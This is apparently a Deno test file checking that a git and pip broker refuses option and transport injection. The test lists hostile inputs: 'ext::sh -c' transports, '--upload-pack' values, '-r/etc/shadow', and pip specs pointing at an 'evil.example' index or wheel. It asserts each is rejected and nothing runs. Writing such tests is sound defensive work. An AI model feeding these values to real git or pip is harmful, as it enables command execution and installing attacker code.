/**
 * Option and transport injection into git and pip: URLs and revisions that git would read as
 * options or as command-running transports (`ext::`, `fd::`, `--upload-pack=`), and pip package
 * specs that are options (`--index-url=`) are refused by a real broker, which runs nothing.
 */
import assert from "node:assert/strict";
import { auditRecords, brokerAt, rejectsWith, tempDir } from "../harness/mod.ts";

Deno.test("code option injection - git URLs, revisions and pip specs cannot become options or commands", async () => {
  await using dir = await tempDir();
  const proof = `${dir.path}/pwned`;
  const c = await brokerAt(dir.path, {
    git: { repos: ["*"], targets: [`${dir.path}/files`] },
    pip: { envs: [`${dir.path}/files`], indexes: ["*"] },
  });
  const target = `${dir.path}/files/app`;
  try {
    for (
      const url of [
        `ext::sh -c touch% ${proof}`,
        "fd::17",
        "--upload-pack=touch /tmp/x",
        `-u touch ${proof}`,
        "file:///x --upload-pack=id",
      ]
    ) {
      await rejectsWith(c.request("git.clone", { url, target }), "bad_request", /args\.url/);
      await rejectsWith(c.request("git.remote", { url, rev: "main" }), "bad_request");
    }
    for (const rev of ["--upload-pack=id", "-c", "main..evil", "a b"]) {
      await rejectsWith(
        c.request("git.remote", { url: `file://${dir.path}/r.git`, rev }),
        "bad_request",
        /args\.rev/,
      );
    }
    for (
      const spec of [
        "--index-url=https://evil.example/simple",
        "-r/etc/shadow",
        "pkg @ https://evil.example/pkg.whl",
        "./local",
        "pkg; os_name=='posix'",
      ]
    ) {
      await rejectsWith(
        c.request("pip.install", { bin_env: `${dir.path}/files/venv`, specs: [spec] }),
        "bad_request",
        /args\.specs/,
      );
    }
    await rejectsWith(
      c.request("pip.uninstall", { bin_env: `${dir.path}/files/venv`, names: ["--yes"] }),
      "bad_request",
    );
    await assert.rejects(Deno.lstat(proof), Deno.errors.NotFound);
  } finally {
    await c.close();
  }
  const records = await auditRecords(dir.path);
  assert.ok(records.length > 0);
  assert.ok(records.every((r) => r.phase === "done"), "nothing got as far as an intent");
});
